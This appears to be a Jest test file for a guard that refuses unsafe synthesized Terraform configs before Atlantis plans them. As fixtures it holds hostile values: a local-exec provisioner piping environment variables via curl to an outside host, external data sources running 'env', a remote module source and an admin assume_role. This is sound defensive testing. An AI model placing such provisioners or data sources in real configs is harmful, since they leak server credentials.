/**
 * The trusted config check (guards/config-check.ts), on small configs of its own and on the
 * committed synthesized stacks. Each refusal asserts the literal message: it is what Atlantis posts.
 */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { ENVIRONMENTS } from "../../config/environments";
import { stackName } from "../../config/environment-bounds";
import { checkTerraformConfig, type ConfigCheckFacts } from "../../guards/config-check";

const DEV: ConfigCheckFacts = {
  stack: "dynamodb-dev",
  accountId: "111111111111",
  region: "eu-west-1",
  state: { bucket: "state-dev", key: "opsdata/dev.tfstate", region: "eu-west-1" },
  awsProviderVersion: "6.25.0",
};

/** A config that passes for DEV: what synth writes, minus the resources. Typed loosely: each test edits it as JSON. */
// eslint-disable-next-line @typescript-eslint/no-explicit-any
function devConfig(): Record<string, any> {
  return {
    "//": { metadata: { stackName: "dynamodb-dev" } },
    terraform: {
      backend: { s3: { bucket: "state-dev", key: "opsdata/dev.tfstate", region: "eu-west-1", encrypt: true, use_lockfile: true } },
      required_providers: { aws: { source: "aws", version: "6.25.0" } },
    },
    provider: { aws: [{ region: "eu-west-1", allowed_account_ids: ["111111111111"], default_tags: [{ tags: { project: "x" } }] }] },
    resource: { aws_dynamodb_table: { api_keys: { name: "opsdata_dev_api_keys", hash_key: "pk" } } },
    output: { api_keys_table_name: { value: "x" } },
  };
}
const problems = (config: unknown, facts: Partial<ConfigCheckFacts> = {}) => checkTerraformConfig(config, { ...DEV, ...facts });

describe("the config check", () => {
  test("GIVEN the AWS provider at the pinned version, the environment's backend and account THEN it passes", () => {
    expect(problems(devConfig())).toEqual([]);
  });

  test("GIVEN a second provider THEN it refuses, in required_providers and in provider", () => {
    const config = devConfig();
    config.terraform.required_providers.null = { source: "hashicorp/null", version: "3.2.0" };
    config.provider.null = [{}];
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: required_providers.null: a second provider is not allowed; only hashicorp/aws 6.25.0",
      'dynamodb-dev/cdk.tf.json: provider "null": a second provider is not allowed; only hashicorp/aws 6.25.0',
    ]);
  });

  test("GIVEN another version or source of the AWS provider THEN it refuses", () => {
    const config = devConfig();
    config.terraform.required_providers.aws = { source: "evil/aws", version: ">= 6.0" };
    expect(problems(config)).toEqual([
      'dynamodb-dev/cdk.tf.json: required_providers.aws.source is "evil/aws"; only hashicorp/aws is allowed',
      'dynamodb-dev/cdk.tf.json: required_providers.aws.version is ">= 6.0"; the pinned version is exactly "6.25.0"',
    ]);
  });

  test("GIVEN a provider assume_role THEN it refuses: the server chooses the identity", () => {
    const config = devConfig();
    config.provider.aws[0].assume_role = [{ role_arn: "arn:aws:iam::333333333333:role/admin" }];
    expect(problems(config)).toEqual([
      'dynamodb-dev/cdk.tf.json: provider "aws" sets assume_role: the server chooses the credentials for each environment and stage; ' +
        "the provider may set only region, allowed_account_ids, default_tags",
    ]);
  });

  test("GIVEN provider credentials, a profile or an alias THEN it refuses", () => {
    const config = devConfig();
    config.provider.aws[0].profile = "prod";
    config.provider.aws.push({ alias: "other", region: "us-east-1" });
    expect(problems(config)).toEqual(['dynamodb-dev/cdk.tf.json: provider "aws" must be configured exactly once (found 2; no aliases)']);
    config.provider.aws.pop();
    expect(problems(config)).toEqual([
      'dynamodb-dev/cdk.tf.json: provider "aws" sets profile: the server chooses the credentials for each environment and stage; ' +
        "the provider may set only region, allowed_account_ids, default_tags",
    ]);
  });

  test("GIVEN another environment's account THEN it refuses", () => {
    const config = devConfig();
    config.provider.aws[0].allowed_account_ids = ["333333333333"];
    expect(problems(config)).toEqual([
      'dynamodb-dev/cdk.tf.json: provider "aws" allowed_account_ids is ["333333333333"]; dynamodb-dev must allow exactly its account ["111111111111"]',
    ]);
  });

  test("GIVEN a backend key of another environment THEN it refuses", () => {
    const config = devConfig();
    config.terraform.backend.s3.key = "opsdata/prod.tfstate";
    expect(problems(config)).toEqual([
      'dynamodb-dev/cdk.tf.json: terraform.backend.s3.key is "opsdata/prod.tfstate"; the state of dynamodb-dev is opsdata/dev.tfstate',
    ]);
  });

  test("GIVEN backend credentials or another backend type THEN it refuses", () => {
    const config = devConfig();
    config.terraform.backend.s3.role_arn = "arn:aws:iam::111111111111:role/x";
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: terraform.backend.s3 sets role_arn: the server chooses the credentials; " +
        "the backend may set only bucket, key, region, encrypt, use_lockfile",
    ]);
    config.terraform.backend = { local: { path: "/tmp/x" } };
    expect(problems(config)).toEqual(["dynamodb-dev/cdk.tf.json: terraform.backend must be exactly one s3 backend (found local)"]);
  });

  test("GIVEN a local-exec provisioner THEN it refuses", () => {
    const config = devConfig();
    config.resource.aws_dynamodb_table.api_keys.provisioner = [{ "local-exec": { command: "env | curl -d @- https://x" } }];
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: resource aws_dynamodb_table.api_keys has a provisioner: provisioners run commands on the Atlantis server; remove it",
    ]);
  });

  test("GIVEN a terraform_data resource THEN it refuses: only aws_* resources", () => {
    const config = devConfig();
    config.resource.terraform_data = { x: { input: 1 } };
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: resource terraform_data.x: only aws_* resources are allowed (its provider would run on the server)",
    ]);
  });

  test("GIVEN an external data source THEN it refuses", () => {
    const config = devConfig();
    config.data = { external: { secrets: { program: ["sh", "-c", "env"] } } };
    expect(problems(config)).toEqual([
      "dynamodb-dev/cdk.tf.json: data.external.secrets: the external data source runs a program on the Atlantis server; remove it",
    ]);
  });

  test("GIVEN a destroy-time provisioner in a removed block THEN it refuses", () => {
    const removed = [
      {
        from: "aws_dynamodb_table.old",
        lifecycle: [{ destroy: true }],
        provisioner: [{ "local-exec": { when: "destroy", command: "env" } }],
      },
    ];
    expect(problems({ ...devConfig(), removed })).toEqual([
      'dynamodb-dev/cdk.tf.json: removed block for "aws_dynamodb_table.old" has a provisioner: provisioners run commands on the Atlantis server; remove it',
    ]);
  });

  test("GIVEN a check block (its scoped data source could be external) THEN it refuses", () => {
    const check = { leak: { data: { external: { x: { program: ["env"] } } }, assert: [{ condition: true, error_message: "x" }] } };
    expect(problems({ ...devConfig(), check })).toEqual([
      'dynamodb-dev/cdk.tf.json: unknown top-level block "check": only terraform, provider, resource, data, output, locals, variable, moved, removed, import are allowed',
    ]);
  });

  test("GIVEN a module block THEN it refuses", () => {
    expect(problems({ ...devConfig(), module: { x: { source: "git::https://example.com/x" } } })).toEqual([
      "dynamodb-dev/cdk.tf.json: module blocks are not allowed: a module is downloaded from outside the reviewed repository",
    ]);
  });

  test("GIVEN another file terraform would load in the project directory THEN it refuses", () => {
    expect(problems(devConfig(), { files: ["cdk.tf.json", "evil.tf", "x.auto.tfvars", ".terraform", "README.md"] })).toEqual([
      "dynamodb-dev/evil.tf: terraform would load this file too; the project directory holds only cdk.tf.json (delete evil.tf)",
      "dynamodb-dev/x.auto.tfvars: terraform would load this file too; the project directory holds only cdk.tf.json (delete x.auto.tfvars)",
    ]);
  });

  test("GIVEN a workspace other than default THEN it refuses", () => {
    expect(problems(devConfig(), { workspace: "prod" })).toEqual([
      "dynamodb-dev/cdk.tf.json: workspace prod: the environment's state is in the default workspace; remove `workspace` from the project in atlantis.yaml",
    ]);
  });

  test("GIVEN something that is not a JSON object THEN it refuses", () => {
    expect(problems([])).toEqual(["dynamodb-dev/cdk.tf.json: is not a JSON object; regenerate it with npm run synth:commit"]);
  });

  test.each(ENVIRONMENTS.map((environment) => [stackName(environment), environment] as const))(
    "the committed synthesized stack %s passes for its own environment",
    (stack, environment) => {
      const config = JSON.parse(readFileSync(join(__dirname, "../../synthesized", stack, "cdk.tf.json"), "utf8"));
      const facts = { stack, accountId: environment.aws.accountId, region: environment.aws.region, state: environment.state };
      expect(problems(config, facts)).toEqual([]);
    },
  );

  test("the prod stack planned as dev is refused (a project renamed in atlantis.yaml)", () => {
    const prod = JSON.parse(readFileSync(join(__dirname, "../../synthesized/dynamodb-prod/cdk.tf.json"), "utf8"));
    const dev = ENVIRONMENTS[0];
    expect(problems(prod, { accountId: dev.aws.accountId, region: dev.aws.region, state: dev.state })).toEqual([
      'dynamodb-dev/cdk.tf.json: provider "aws" allowed_account_ids is ["333333333333"]; dynamodb-dev must allow exactly its account ["111111111111"]',
      'dynamodb-dev/cdk.tf.json: terraform.backend.s3.bucket is "opsdata-terraform-state-prod"; the state of dynamodb-dev is opsdata-terraform-state-dev',
      'dynamodb-dev/cdk.tf.json: terraform.backend.s3.key is "opsdata-infra/dynamodb/prod.tfstate"; the state of dynamodb-dev is opsdata-infra/dynamodb/dev.tfstate',
    ]);
  });
});
